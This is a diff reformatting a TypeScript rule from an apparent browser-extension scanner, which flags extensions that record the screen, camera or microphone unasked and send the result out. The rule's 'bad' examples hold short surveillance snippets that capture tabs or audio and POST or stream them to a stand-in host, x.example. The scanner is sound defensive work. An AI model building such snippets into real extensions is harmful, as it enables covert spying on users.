@@ -1,5 +1,13 @@
 import { rolesOf } from '../../facts/extension/roles.ts';
-import { callsOf, constant, keysOf, propertyOf, scriptsOf, type Call, type ScriptFacts } from '../../facts/javascript/query.ts';
+import {
+  callsOf,
+  constant,
+  keysOf,
+  propertyOf,
+  scriptsOf,
+  type Call,
+  type ScriptFacts,
+} from '../../facts/javascript/query.ts';
 import type { Facts } from '../../facts.ts';
 import { defineRule } from '../../rule.ts';
 import { backgroundExample, checkScripts } from './checkScripts.ts';
@@ -8,7 +16,15 @@ import { leavesBy } from './sendings.ts';
 import { unaskedCalls } from './unasked.ts';
 import { callsWithin, few, functionAt, functionOf } from './usage.ts';
 
-const CAPTURES = ['chrome.tabs.captureVisibleTab', 'chrome.tabs.captureTab', 'chrome.pageCapture.saveAsMHTML', 'chrome.tabCapture.capture', 'chrome.desktopCapture.chooseDesktopMedia', 'navigator.mediaDevices.getUserMedia', 'navigator.mediaDevices.getDisplayMedia'];
+const CAPTURES = [
+  'chrome.tabs.captureVisibleTab',
+  'chrome.tabs.captureTab',
+  'chrome.pageCapture.saveAsMHTML',
+  'chrome.tabCapture.capture',
+  'chrome.desktopCapture.chooseDesktopMedia',
+  'navigator.mediaDevices.getUserMedia',
+  'navigator.mediaDevices.getDisplayMedia',
+];
 export const screenWatched = defineRule({
   id: 'screen-watched',
   title: 'The screen, camera or microphone is recorded without being asked',
@@ -26,27 +42,81 @@ export const screenWatched = defineRule({
     const unasked = unaskedCalls(script);
     for (const call of captures) {
       const out = leavesBy(script, new Set([call.value]), ['network']);
-      const alone = unasked.get(call.value) ?? (out !== undefined && isOrdered(facts, script, call) ? 'pages that are opened' : undefined);
-      if (alone !== undefined && out !== undefined) yield hit(call.value, { severity: 'critical', confidence: unasked.has(call.value) ? 'high' : 'medium', message: `It runs by ${alone} and sends what it takes to ${out.to}.` });
-      else if (out !== undefined && isRecording(script, call)) yield hit(call.value, { severity: 'medium', message: `The tab is recorded, and what is recorded is sent to ${out.to}.` });
-      else if (out !== undefined) yield hit(call.value, { severity: 'low', message: `What it takes is sent to ${out.to}.` });
-      else if (alone !== undefined) yield hit(call.value, { severity: 'medium', confidence: 'low', message: `It runs by ${alone}.` });
+      const alone =
+        unasked.get(call.value) ??
+        (out !== undefined && isOrdered(facts, script, call) ? 'pages that are opened' : undefined);
+      if (alone !== undefined && out !== undefined)
+        yield hit(call.value, {
+          severity: 'critical',
+          confidence: unasked.has(call.value) ? 'high' : 'medium',
+          message: `It runs by ${alone} and sends what it takes to ${out.to}.`,
+        });
+      else if (out !== undefined && isRecording(script, call))
+        yield hit(call.value, {
+          severity: 'medium',
+          message: `The tab is recorded, and what is recorded is sent to ${out.to}.`,
+        });
+      else if (out !== undefined)
+        yield hit(call.value, { severity: 'low', message: `What it takes is sent to ${out.to}.` });
+      else if (alone !== undefined)
+        yield hit(call.value, { severity: 'medium', confidence: 'low', message: `It runs by ${alone}.` });
     }
   }),
   examples: {
     bad: [
-      backgroundExample('setInterval(() => { chrome.tabs.captureVisibleTab(null, { format: "png" }, (url) => { fetch("https://x.example/shot", { method: "POST", body: url }); }); }, 30000);'),
-      backgroundExample('chrome.tabs.onUpdated.addListener(async (id, info) => { const shot = await chrome.tabs.captureVisibleTab(); await fetch("https://x.example/s", { method: "POST", body: JSON.stringify({ shot }) }); });'),
-      backgroundExample('chrome.alarms.onAlarm.addListener(() => watch()); function watch() { chrome.tabs.captureVisibleTab((u) => chrome.storage.local.set({ u })); }'),
-      backgroundExample('async function go() { const s = await navigator.mediaDevices.getUserMedia({ audio: true }); const r = new MediaRecorder(s); const ws = new WebSocket("wss://x.example"); ws.send(await read(s)); }'),
-      { files: { 'manifest.json': '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "bg.js"}, "content_scripts": [{"matches": ["<all_urls>"], "js": ["c.js"]}]}', 'bg.js': 'chrome.runtime.onMessage.addListener(async (m, s) => { if (m.type !== "view") return; const shot = await chrome.tabs.captureVisibleTab(s.tab.windowId); await fetch("https://x.example/s", { method: "POST", body: shot }); });', 'c.js': 'window.addEventListener("load", () => setTimeout(() => chrome.runtime.sendMessage({ type: "view" }), 1100));' } },
+      backgroundExample(
+        'setInterval(() => { chrome.tabs.captureVisibleTab(null, { format: "png" }, (url) => { fetch("https://x.example/shot", { method: "POST", body: url }); }); }, 30000);',
+      ),
+      backgroundExample(
+        'chrome.tabs.onUpdated.addListener(async (id, info) => { const shot = await chrome.tabs.captureVisibleTab(); await fetch("https://x.example/s", { method: "POST", body: JSON.stringify({ shot }) }); });',
+      ),
+      backgroundExample(
+        'chrome.alarms.onAlarm.addListener(() => watch()); function watch() { chrome.tabs.captureVisibleTab((u) => chrome.storage.local.set({ u })); }',
+      ),
+      backgroundExample(
+        'async function go() { const s = await navigator.mediaDevices.getUserMedia({ audio: true }); const r = new MediaRecorder(s); const ws = new WebSocket("wss://x.example"); ws.send(await read(s)); }',
+      ),
+      {
+        files: {
+          'manifest.json':
+            '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "bg.js"}, "content_scripts": [{"matches": ["<all_urls>"], "js": ["c.js"]}]}',
+          'bg.js':
+            'chrome.runtime.onMessage.addListener(async (m, s) => { if (m.type !== "view") return; const shot = await chrome.tabs.captureVisibleTab(s.tab.windowId); await fetch("https://x.example/s", { method: "POST", body: shot }); });',
+          'c.js':
+            'window.addEventListener("load", () => setTimeout(() => chrome.runtime.sendMessage({ type: "view" }), 1100));',
+        },
+      },
     ],
     good: [
-      { files: { 'manifest.json': '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "bg.js"}, "content_scripts": [{"matches": ["<all_urls>"], "js": ["c.js"]}]}', 'bg.js': 'chrome.runtime.onMessage.addListener(async (m, s) => { if (m.type !== "view") return; const shot = await chrome.tabs.captureVisibleTab(s.tab.windowId); chrome.action.setBadgeText({ text: "1" }); save(shot); });', 'c.js': 'function take() { chrome.runtime.sendMessage({ type: "view" }); } button.addEventListener("click", () => setTimeout(take, 100));' } },
-      { files: { 'manifest.json': '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "bg.js"}, "content_scripts": [{"matches": ["<all_urls>"], "js": ["c.js"]}]}', 'bg.js': 'chrome.runtime.onMessage.addListener(async (m, s) => { if (m.type === "view") show(await chrome.tabs.captureVisibleTab(s.tab.windowId)); });', 'c.js': 'window.addEventListener("load", () => setTimeout(() => chrome.runtime.sendMessage({ type: "view" }), 1100));' } },
-      backgroundExample('chrome.action.onClicked.addListener(async () => { const url = await chrome.tabs.captureVisibleTab(); chrome.tabs.create({ url: "edit.html#" + url }); });'),
-      backgroundExample('button.onclick = async () => { const stream = await navigator.mediaDevices.getDisplayMedia(); video.srcObject = stream; };'),
-      backgroundExample('setInterval(() => refresh(), 1000); chrome.action.onClicked.addListener(() => chrome.tabs.captureVisibleTab((u) => show(u)));'),
+      {
+        files: {
+          'manifest.json':
+            '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "bg.js"}, "content_scripts": [{"matches": ["<all_urls>"], "js": ["c.js"]}]}',
+          'bg.js':
+            'chrome.runtime.onMessage.addListener(async (m, s) => { if (m.type !== "view") return; const shot = await chrome.tabs.captureVisibleTab(s.tab.windowId); chrome.action.setBadgeText({ text: "1" }); save(shot); });',
+          'c.js':
+            'function take() { chrome.runtime.sendMessage({ type: "view" }); } button.addEventListener("click", () => setTimeout(take, 100));',
+        },
+      },
+      {
+        files: {
+          'manifest.json':
+            '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "bg.js"}, "content_scripts": [{"matches": ["<all_urls>"], "js": ["c.js"]}]}',
+          'bg.js':
+            'chrome.runtime.onMessage.addListener(async (m, s) => { if (m.type === "view") show(await chrome.tabs.captureVisibleTab(s.tab.windowId)); });',
+          'c.js':
+            'window.addEventListener("load", () => setTimeout(() => chrome.runtime.sendMessage({ type: "view" }), 1100));',
+        },
+      },
+      backgroundExample(
+        'chrome.action.onClicked.addListener(async () => { const url = await chrome.tabs.captureVisibleTab(); chrome.tabs.create({ url: "edit.html#" + url }); });',
+      ),
+      backgroundExample(
+        'button.onclick = async () => { const stream = await navigator.mediaDevices.getDisplayMedia(); video.srcObject = stream; };',
+      ),
+      backgroundExample(
+        'setInterval(() => refresh(), 1000); chrome.action.onClicked.addListener(() => chrome.tabs.captureVisibleTab((u) => show(u)));',
+      ),
     ],
   },
 });
@@ -54,14 +124,32 @@ export const screenWatched = defineRule({
 /** `getUserMedia({ video: { mandatory: { chromeMediaSource: 'tab' } } })`: a tab is recorded without the browser's asking. */
 function isRecording(script: ScriptFacts, call: Call): boolean {
   const asked = call.args[0] ?? 0;
-  return ['video', 'audio'].some((kind) => constant(script, propertyOf(script, propertyOf(script, propertyOf(script, asked, kind), 'mandatory'), 'chromeMediaSource')) === 'tab');
+  return ['video', 'audio'].some(
+    (kind) =>
+      constant(
+        script,
+        propertyOf(script, propertyOf(script, propertyOf(script, asked, kind), 'mandatory'), 'chromeMediaSource'),
+      ) === 'tab',
+  );
 }
 
 /** Values from which on a script is taken for a bundle. */
 const BUNDLE = 5000;
 
 /** What a person does in a page, after which it may well tell the background to take a picture. */
-const DOINGS = ['click', 'dblclick', 'mousedown', 'mouseup', 'pointerdown', 'pointerup', 'keydown', 'keyup', 'submit', 'change', 'message'];
+const DOINGS = [
+  'click',
+  'dblclick',
+  'mousedown',
+  'mouseup',
+  'pointerdown',
+  'pointerup',
+  'keydown',
+  'keyup',
+  'submit',
+  'change',
+  'message',
+];
 
 /** Whether the background does it because a script in pages says so by itself: when the page is there, or after a while. */
 function isOrdered(facts: Facts, script: ScriptFacts, call: Call): boolean {
@@ -80,9 +168,20 @@ function ordersFromPages(facts: Facts): readonly string[] {
   for (const { file, script } of scriptsOf(facts)) {
     const roles = facts.whole(rolesOf).get(file.path);
     if (file.traits.vendored || roles?.has('content') !== true) continue;
-    const done = new Set(listenersOf(script, ...DOINGS).flatMap(({ fn }) => callsWithin(script, fn).map((inner) => inner.value)));
-    const starts = [...listenersOf(script, 'load', 'DOMContentLoaded', 'pageshow', 'visibilitychange', 'scroll', 'focus').map(({ fn }) => fn), ...callsOf(script, 'setTimeout', 'setInterval', 'MutationObserver').map((call) => functionOf(script, call.args[0] ?? 0))];
-    const alone = new Set(few(starts, 60).flatMap((fn) => (fn === undefined ? [] : callsWithin(script, fn).map((inner) => inner.value))));
+    const done = new Set(
+      listenersOf(script, ...DOINGS).flatMap(({ fn }) => callsWithin(script, fn).map((inner) => inner.value)),
+    );
+    const starts = [
+      ...listenersOf(script, 'load', 'DOMContentLoaded', 'pageshow', 'visibilitychange', 'scroll', 'focus').map(
+        ({ fn }) => fn,
+      ),
+      ...callsOf(script, 'setTimeout', 'setInterval', 'MutationObserver').map((call) =>
+        functionOf(script, call.args[0] ?? 0),
+      ),
+    ];
+    const alone = new Set(
+      few(starts, 60).flatMap((fn) => (fn === undefined ? [] : callsWithin(script, fn).map((inner) => inner.value))),
+    );
     for (const sent of few(callsOf(script, 'chrome.runtime.sendMessage'), 50)) {
       if (done.has(sent.value) || !(alone.has(sent.value) || functionAt(script, sent.pos) === -1)) continue;
       const message = sent.args[0] ?? 0;
